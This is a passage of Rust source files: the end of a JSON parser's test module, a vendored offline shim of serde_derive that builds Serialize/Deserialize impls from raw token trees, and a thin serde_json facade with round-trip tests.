            assert_eq!(parse_json(&r).unwrap(), v, "case {c}");
        }
    }

    #[test]
    fn unicode_escapes() {
        let v = parse_json(r#""é😀""#).unwrap();
        assert_eq!(v, Json::Str("é😀".to_string()));
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse_json("{").is_err());
        assert!(parse_json("[1,]").is_err());
        assert!(parse_json("nul").is_err());
        assert!(parse_json("1 2").is_err());
    }

    #[test]
    fn float_rendering() {
        assert_eq!(render_json(&Json::Float(1.0)), "1.0");
        assert_eq!(render_json(&Json::Float(1.5)), "1.5");
    }
}
