//! Offline vendored shim for `serde_derive`.
//!
//! Generates `Serialize`/`Deserialize` impls against the vendored `serde`
//! shim's JSON data model. Supports the shapes this workspace uses:
//!
//! - structs with named fields (objects), honouring `#[serde(default)]`
//!   and implicit `None` for missing `Option` fields;
//! - newtype / tuple structs (newtypes serialize as their inner value —
//!   `#[serde(transparent)]` is accepted and means the same thing);
//! - enums with unit, newtype, tuple and struct variants, in serde_json's
//!   externally-tagged representation.
//!
//! No `syn`/`quote`: the input item is walked as raw token trees and the
//! generated impl is assembled as source text. Generic type parameters on
//! the deriving item are not supported (the workspace has none).

use proc_macro::{Delimiter, TokenStream, TokenTree};

#[derive(Debug)]
struct Field {
    name: String,
    has_default: bool,
    is_option: bool,
}

#[derive(Debug)]
enum VariantKind {
    Unit,
    Tuple(usize),
    Struct(Vec<Field>),
}

#[derive(Debug)]
struct Variant {
    name: String,
    kind: VariantKind,
}

#[derive(Debug)]
enum Shape {
    Named { name: String, fields: Vec<Field> },
    Tuple { name: String, arity: usize },
    Unit { name: String },
    Enum { name: String, variants: Vec<Variant> },
}

/// Does an attribute token group (the `[...]` contents) say `serde(<word>)`?
fn attr_contains(tokens: &[TokenTree], word: &str) -> bool {
    let mut it = tokens.iter();
    match (it.next(), it.next()) {
        (Some(TokenTree::Ident(i)), Some(TokenTree::Group(g)))
            if i.to_string() == "serde" && g.delimiter() == Delimiter::Parenthesis =>
        {
            g.stream().into_iter().any(|t| matches!(&t, TokenTree::Ident(w) if w.to_string() == word))
        }
        _ => false,
    }
}

/// Consume leading attributes; report whether any was `#[serde(default)]`.
fn skip_attrs(tokens: &[TokenTree], mut pos: usize) -> (usize, bool) {
    let mut has_default = false;
    while pos + 1 < tokens.len() {
        match (&tokens[pos], &tokens[pos + 1]) {
            (TokenTree::Punct(p), TokenTree::Group(g))
                if p.as_char() == '#' && g.delimiter() == Delimiter::Bracket =>
            {
                let inner: Vec<TokenTree> = g.stream().into_iter().collect();
                if attr_contains(&inner, "default") {
                    has_default = true;
                }
                pos += 2;
            }
            _ => break,
        }
    }
    (pos, has_default)
}

/// Consume a visibility modifier (`pub`, `pub(crate)`, …) if present.
fn skip_vis(tokens: &[TokenTree], mut pos: usize) -> usize {
    if let Some(TokenTree::Ident(i)) = tokens.get(pos) {
        if i.to_string() == "pub" {
            pos += 1;
            if let Some(TokenTree::Group(g)) = tokens.get(pos) {
                if g.delimiter() == Delimiter::Parenthesis {
                    pos += 1;
                }
            }
        }
    }
    pos
}

/// Parse the fields of a braced (named-field) body.
fn parse_named_fields(group: &proc_macro::Group) -> Vec<Field> {
    let tokens: Vec<TokenTree> = group.stream().into_iter().collect();
    let mut fields = Vec::new();
    let mut pos = 0;
    while pos < tokens.len() {
        let (next, has_default) = skip_attrs(&tokens, pos);
        pos = skip_vis(&tokens, next);
        let name = match tokens.get(pos) {
            Some(TokenTree::Ident(i)) => i.to_string(),
            _ => break,
        };
        pos += 1;
        // Expect ':'
        match tokens.get(pos) {
            Some(TokenTree::Punct(p)) if p.as_char() == ':' => pos += 1,
            _ => break,
        }
        // The field type: tokens until a ',' at angle-bracket depth 0.
        let mut depth = 0i32;
        let mut first_type_ident = String::new();
        while pos < tokens.len() {
            match &tokens[pos] {
                TokenTree::Punct(p) if p.as_char() == '<' => depth += 1,
                TokenTree::Punct(p) if p.as_char() == '>' => depth -= 1,
                TokenTree::Punct(p) if p.as_char() == ',' && depth == 0 => {
                    pos += 1;
                    break;
                }
                TokenTree::Ident(i) if first_type_ident.is_empty() => {
                    first_type_ident = i.to_string();
                }
                _ => {}
            }
            pos += 1;
        }
        let is_option = first_type_ident == "Option";
        fields.push(Field { name, has_default, is_option });
    }
    fields
}

/// Count the fields of a parenthesized (tuple) body.
fn count_tuple_fields(group: &proc_macro::Group) -> usize {
    let tokens: Vec<TokenTree> = group.stream().into_iter().collect();
    if tokens.is_empty() {
        return 0;
    }
    let mut depth = 0i32;
    let mut count = 1;
    for t in &tokens {
        match t {
            TokenTree::Punct(p) if p.as_char() == '<' => depth += 1,
            TokenTree::Punct(p) if p.as_char() == '>' => depth -= 1,
            TokenTree::Punct(p) if p.as_char() == ',' && depth == 0 => count += 1,
            _ => {}
        }
    }
    // A trailing comma would over-count by one; detect it.
    if let Some(TokenTree::Punct(p)) = tokens.last() {
        if p.as_char() == ',' {
            count -= 1;
        }
    }
    count
}

fn parse_enum_variants(group: &proc_macro::Group) -> Vec<Variant> {
    let tokens: Vec<TokenTree> = group.stream().into_iter().collect();
    let mut variants = Vec::new();
    let mut pos = 0;
    while pos < tokens.len() {
        let (next, _) = skip_attrs(&tokens, pos);
        pos = next;
        let name = match tokens.get(pos) {
            Some(TokenTree::Ident(i)) => i.to_string(),
            _ => break,
        };
        pos += 1;
        let kind = match tokens.get(pos) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                pos += 1;
                VariantKind::Tuple(count_tuple_fields(g))
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                pos += 1;
                VariantKind::Struct(parse_named_fields(g))
            }
            _ => VariantKind::Unit,
        };
        // Skip a discriminant (`= expr`) and the separating comma.
        while pos < tokens.len() {
            match &tokens[pos] {
                TokenTree::Punct(p) if p.as_char() == ',' => {
                    pos += 1;
                    break;
                }
                _ => pos += 1,
            }
        }
        variants.push(Variant { name, kind });
    }
    variants
}

fn parse_shape(input: TokenStream) -> Shape {
    let tokens: Vec<TokenTree> = input.into_iter().collect();
    let mut pos = 0;
    // Container attributes + visibility.
    let (next, _) = skip_attrs(&tokens, pos);
    pos = skip_vis(&tokens, next);
    let keyword = match tokens.get(pos) {
        Some(TokenTree::Ident(i)) => i.to_string(),
        other => panic!("derive(Serialize/Deserialize): expected struct/enum, got {other:?}"),
    };
    pos += 1;
    let name = match tokens.get(pos) {
        Some(TokenTree::Ident(i)) => i.to_string(),
        other => panic!("derive(Serialize/Deserialize): expected item name, got {other:?}"),
    };
    pos += 1;
    if let Some(TokenTree::Punct(p)) = tokens.get(pos) {
        if p.as_char() == '<' {
            panic!("vendored serde_derive shim does not support generic items ({name})");
        }
    }
    match keyword.as_str() {
        "struct" => match tokens.get(pos) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                Shape::Named { name, fields: parse_named_fields(g) }
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                Shape::Tuple { name, arity: count_tuple_fields(g) }
            }
            _ => Shape::Unit { name },
        },
        "enum" => match tokens.get(pos) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                Shape::Enum { name, variants: parse_enum_variants(g) }
            }
            other => panic!("derive: expected enum body, got {other:?}"),
        },
        other => panic!("derive(Serialize/Deserialize) on unsupported item kind `{other}`"),
    }
}

/// `#[derive(Serialize)]`
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let shape = parse_shape(input);
    let src = match &shape {
        Shape::Named { name, fields } => {
            let mut pushes = String::new();
            for f in fields {
                pushes.push_str(&format!(
                    "__fields.push((::std::string::String::from(\"{0}\"), ::serde::Serialize::to_json(&self.{0})));\n",
                    f.name
                ));
            }
            format!(
                "impl ::serde::Serialize for {name} {{\n\
                 fn to_json(&self) -> ::serde::Json {{\n\
                 let mut __fields: ::std::vec::Vec<(::std::string::String, ::serde::Json)> = ::std::vec::Vec::new();\n\
                 {pushes}\
                 ::serde::Json::Obj(__fields)\n\
                 }}\n}}"
            )
        }
        Shape::Tuple { name, arity: 1 } => format!(
            "impl ::serde::Serialize for {name} {{\n\
             fn to_json(&self) -> ::serde::Json {{ ::serde::Serialize::to_json(&self.0) }}\n}}"
        ),
        Shape::Tuple { name, arity } => {
            let items: Vec<String> =
                (0..*arity).map(|i| format!("::serde::Serialize::to_json(&self.{i})")).collect();
            format!(
                "impl ::serde::Serialize for {name} {{\n\
                 fn to_json(&self) -> ::serde::Json {{ ::serde::Json::Arr(vec![{}]) }}\n}}",
                items.join(", ")
            )
        }
        Shape::Unit { name } => format!(
            "impl ::serde::Serialize for {name} {{\n\
             fn to_json(&self) -> ::serde::Json {{ ::serde::Json::Null }}\n}}"
        ),
        Shape::Enum { name, variants } => {
            let mut arms = String::new();
            for v in variants {
                let vn = &v.name;
                match &v.kind {
                    VariantKind::Unit => arms.push_str(&format!(
                        "{name}::{vn} => ::serde::Json::Str(::std::string::String::from(\"{vn}\")),\n"
                    )),
                    VariantKind::Tuple(1) => arms.push_str(&format!(
                        "{name}::{vn}(__f0) => ::serde::Json::Obj(vec![(::std::string::String::from(\"{vn}\"), ::serde::Serialize::to_json(__f0))]),\n"
                    )),
                    VariantKind::Tuple(n) => {
                        let binds: Vec<String> = (0..*n).map(|i| format!("__f{i}")).collect();
                        let items: Vec<String> =
                            binds.iter().map(|b| format!("::serde::Serialize::to_json({b})")).collect();
                        arms.push_str(&format!(
                            "{name}::{vn}({}) => ::serde::Json::Obj(vec![(::std::string::String::from(\"{vn}\"), ::serde::Json::Arr(vec![{}]))]),\n",
                            binds.join(", "),
                            items.join(", ")
                        ));
                    }
                    VariantKind::Struct(fields) => {
                        let binds: Vec<String> = fields.iter().map(|f| f.name.clone()).collect();
                        let items: Vec<String> = fields
                            .iter()
                            .map(|f| {
                                format!(
                                    "(::std::string::String::from(\"{0}\"), ::serde::Serialize::to_json({0}))",
                                    f.name
                                )
                            })
                            .collect();
                        arms.push_str(&format!(
                            "{name}::{vn} {{ {} }} => ::serde::Json::Obj(vec![(::std::string::String::from(\"{vn}\"), ::serde::Json::Obj(vec![{}]))]),\n",
                            binds.join(", "),
                            items.join(", ")
                        ));
                    }
                }
            }
            format!(
                "impl ::serde::Serialize for {name} {{\n\
                 fn to_json(&self) -> ::serde::Json {{\n\
                 match self {{\n{arms}}}\n\
                 }}\n}}"
            )
        }
    };
    src.parse().expect("serde_derive shim: generated Serialize impl failed to parse")
}

fn named_field_extractor(fields: &[Field], ctor_prefix: &str, src_obj: &str) -> String {
    let mut inits = String::new();
    for f in fields {
        let missing = if f.has_default {
            "::std::default::Default::default()".to_string()
        } else if f.is_option {
            "::std::option::Option::None".to_string()
        } else {
            format!("return ::std::result::Result::Err(::serde::DeError::missing_field(\"{}\"))", f.name)
        };
        inits.push_str(&format!(
            "{0}: match ::serde::json_field({src_obj}, \"{0}\") {{\n\
             ::std::option::Option::Some(__x) => ::serde::Deserialize::from_json(__x)?,\n\
             ::std::option::Option::None => {missing},\n\
             }},\n",
            f.name
        ));
    }
    format!("{ctor_prefix} {{\n{inits}}}")
}

/// `#[derive(Deserialize)]`
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let shape = parse_shape(input);
    let src = match &shape {
        Shape::Named { name, fields } => {
            let ctor = named_field_extractor(fields, name, "__obj");
            format!(
                "impl ::serde::Deserialize for {name} {{\n\
                 fn from_json(__v: &::serde::Json) -> ::std::result::Result<Self, ::serde::DeError> {{\n\
                 let __obj = __v.as_obj().ok_or_else(|| ::serde::DeError::expected(\"object for {name}\"))?;\n\
                 ::std::result::Result::Ok({ctor})\n\
                 }}\n}}"
            )
        }
        Shape::Tuple { name, arity: 1 } => format!(
            "impl ::serde::Deserialize for {name} {{\n\
             fn from_json(__v: &::serde::Json) -> ::std::result::Result<Self, ::serde::DeError> {{\n\
             ::std::result::Result::Ok({name}(::serde::Deserialize::from_json(__v)?))\n\
             }}\n}}"
        ),
        Shape::Tuple { name, arity } => {
            let items: Vec<String> =
                (0..*arity).map(|i| format!("::serde::Deserialize::from_json(&__arr[{i}])?")).collect();
            format!(
                "impl ::serde::Deserialize for {name} {{\n\
                 fn from_json(__v: &::serde::Json) -> ::std::result::Result<Self, ::serde::DeError> {{\n\
                 let __arr = __v.as_arr().ok_or_else(|| ::serde::DeError::expected(\"array for {name}\"))?;\n\
                 if __arr.len() != {arity} {{ return ::std::result::Result::Err(::serde::DeError::expected(\"array of {arity} elements\")); }}\n\
                 ::std::result::Result::Ok({name}({}))\n\
                 }}\n}}",
                items.join(", ")
            )
        }
        Shape::Unit { name } => format!(
            "impl ::serde::Deserialize for {name} {{\n\
             fn from_json(_v: &::serde::Json) -> ::std::result::Result<Self, ::serde::DeError> {{\n\
             ::std::result::Result::Ok({name})\n\
             }}\n}}"
        ),
        Shape::Enum { name, variants } => {
            let mut unit_arms = String::new();
            let mut data_arms = String::new();
            for v in variants {
                let vn = &v.name;
                match &v.kind {
                    VariantKind::Unit => unit_arms.push_str(&format!(
                        "\"{vn}\" => ::std::result::Result::Ok({name}::{vn}),\n"
                    )),
                    VariantKind::Tuple(1) => data_arms.push_str(&format!(
                        "\"{vn}\" => ::std::result::Result::Ok({name}::{vn}(::serde::Deserialize::from_json(__val)?)),\n"
                    )),
                    VariantKind::Tuple(n) => {
                        let items: Vec<String> = (0..*n)
                            .map(|i| format!("::serde::Deserialize::from_json(&__arr[{i}])?"))
                            .collect();
                        data_arms.push_str(&format!(
                            "\"{vn}\" => {{\n\
                             let __arr = __val.as_arr().ok_or_else(|| ::serde::DeError::expected(\"array for {name}::{vn}\"))?;\n\
                             if __arr.len() != {n} {{ return ::std::result::Result::Err(::serde::DeError::expected(\"array of {n} elements\")); }}\n\
                             ::std::result::Result::Ok({name}::{vn}({}))\n\
                             }},\n",
                            items.join(", ")
                        ));
                    }
                    VariantKind::Struct(fields) => {
                        let ctor = named_field_extractor(fields, &format!("{name}::{vn}"), "__inner");
                        data_arms.push_str(&format!(
                            "\"{vn}\" => {{\n\
                             let __inner = __val.as_obj().ok_or_else(|| ::serde::DeError::expected(\"object for {name}::{vn}\"))?;\n\
                             ::std::result::Result::Ok({ctor})\n\
                             }},\n"
                        ));
                    }
                }
            }
            format!(
                "impl ::serde::Deserialize for {name} {{\n\
                 fn from_json(__v: &::serde::Json) -> ::std::result::Result<Self, ::serde::DeError> {{\n\
                 match __v {{\n\
                 ::serde::Json::Str(__s) => match __s.as_str() {{\n\
                 {unit_arms}\
                 __other => ::std::result::Result::Err(::serde::DeError::unknown_variant(__other, \"{name}\")),\n\
                 }},\n\
                 ::serde::Json::Obj(__o) if __o.len() == 1 => {{\n\
                 let (__k, __val) = &__o[0];\n\
                 match __k.as_str() {{\n\
                 {data_arms}\
                 __other => ::std::result::Result::Err(::serde::DeError::unknown_variant(__other, \"{name}\")),\n\
                 }}\n\
                 }},\n\
                 _ => ::std::result::Result::Err(::serde::DeError::expected(\"string or single-key object for {name}\")),\n\
                 }}\n\
                 }}\n}}"
            )
        }
    };
    src.parse().expect("serde_derive shim: generated Deserialize impl failed to parse")
}
