//! Offline vendored shim for `serde_json`.
//!
//! Thin facade over the vendored `serde` shim's JSON model: `to_string` /
//! `to_vec` / `to_string_pretty` render a [`Value`] tree produced by
//! `Serialize::to_json`, and `from_str` / `from_slice` / `from_value`
//! parse text and rebuild via `Deserialize::from_json`.

use serde::{parse_json, render_json, DeError, Deserialize, Serialize};
use std::fmt;

/// A JSON value (re-export of the shim's data model).
pub type Value = serde::Json;

/// Serialization / deserialization error.
#[derive(Clone, Debug)]
pub struct Error(String);

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

impl From<DeError> for Error {
    fn from(e: DeError) -> Error {
        Error(e.0)
    }
}

/// Result alias matching the real crate.
pub type Result<T> = std::result::Result<T, Error>;

/// Serialize to a compact JSON string.
pub fn to_string<T: Serialize + ?Sized>(value: &T) -> Result<String> {
    Ok(render_json(&value.to_json()))
}

/// Serialize to a pretty-printed JSON string (2-space indent).
pub fn to_string_pretty<T: Serialize + ?Sized>(value: &T) -> Result<String> {
    Ok(pretty(&value.to_json(), 0))
}

/// Serialize to a JSON byte vector.
pub fn to_vec<T: Serialize + ?Sized>(value: &T) -> Result<Vec<u8>> {
    to_string(value).map(String::into_bytes)
}

/// Serialize to a [`Value`] tree.
pub fn to_value<T: Serialize + ?Sized>(value: &T) -> Result<Value> {
    Ok(value.to_json())
}

/// Deserialize from a JSON string.
pub fn from_str<T: Deserialize>(s: &str) -> Result<T> {
    let v = parse_json(s).map_err(Error)?;
    T::from_json(&v).map_err(Error::from)
}

/// Deserialize from JSON bytes.
pub fn from_slice<T: Deserialize>(bytes: &[u8]) -> Result<T> {
    let s = std::str::from_utf8(bytes).map_err(|e| Error(format!("invalid UTF-8: {e}")))?;
    from_str(s)
}

/// Deserialize from a [`Value`] tree.
pub fn from_value<T: Deserialize>(v: Value) -> Result<T> {
    T::from_json(&v).map_err(Error::from)
}

fn pretty(v: &Value, indent: usize) -> String {
    let pad = "  ".repeat(indent);
    let pad_in = "  ".repeat(indent + 1);
    match v {
        Value::Arr(items) if !items.is_empty() => {
            let body: Vec<String> =
                items.iter().map(|i| format!("{pad_in}{}", pretty(i, indent + 1))).collect();
            format!("[\n{}\n{pad}]", body.join(",\n"))
        }
        Value::Obj(entries) if !entries.is_empty() => {
            let body: Vec<String> = entries
                .iter()
                .map(|(k, val)| {
                    let key = render_json(&Value::Str(k.clone()));
                    format!("{pad_in}{key}: {}", pretty(val, indent + 1))
                })
                .collect();
            format!("{{\n{}\n{pad}}}", body.join(",\n"))
        }
        other => render_json(other),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip_value() {
        let v: Value = from_str(r#"{"a":[1,2,{"b":null}],"c":"x"}"#).unwrap();
        let s = to_string(&v).unwrap();
        let v2: Value = from_str(&s).unwrap();
        assert_eq!(v, v2);
    }

    #[test]
    fn typed_round_trip() {
        let xs = vec![1u64, 2, 3];
        let s = to_string(&xs).unwrap();
        assert_eq!(s, "[1,2,3]");
        let back: Vec<u64> = from_str(&s).unwrap();
        assert_eq!(back, xs);
    }

    #[test]
    fn pretty_prints() {
        let v: Value = from_str(r#"{"a":1}"#).unwrap();
        let p = to_string_pretty(&v).unwrap();
        assert!(p.contains("\n  \"a\": 1\n"), "{p}");
    }
}
